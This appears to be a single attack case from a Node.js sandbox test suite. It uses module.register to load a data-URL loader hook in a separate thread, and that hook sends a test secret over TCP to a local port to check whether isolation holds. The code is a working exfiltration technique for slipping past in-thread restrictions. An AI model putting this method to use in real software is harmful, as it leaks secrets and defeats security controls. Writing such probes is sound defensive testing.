// module.register starts loader hooks in their own thread, with fresh built-ins: the hook module
// leaks over TCP from there, and reports back through a MessagePort.
import { register } from 'node:module';
import { MessageChannel } from 'node:worker_threads';
export const meta = { kind: 'worker', evidence: 'tcp' };
export default function attack(ctx) {
  const hook = `import net from 'node:net';
    export async function initialize({ port }) {
      const socket = net.connect(${ctx.tcpPort}, '127.0.0.1', () => socket.end(${JSON.stringify(ctx.secret)}));
      socket.on('error', (e) => port.postMessage('error ' + e.code));
      socket.on('close', () => port.postMessage('sent'));
    }`;
  const { port1, port2 } = new MessageChannel();
  return new Promise((resolve, reject) => {
    port1.on('message', (message) => { port1.close(); resolve(message); });
    try {
      register('data:text/javascript,' + encodeURIComponent(hook), { data: { port: port2 }, transferList: [port2] });
    } catch (error) {
      port1.close();
      reject(error);
    }
  });
}
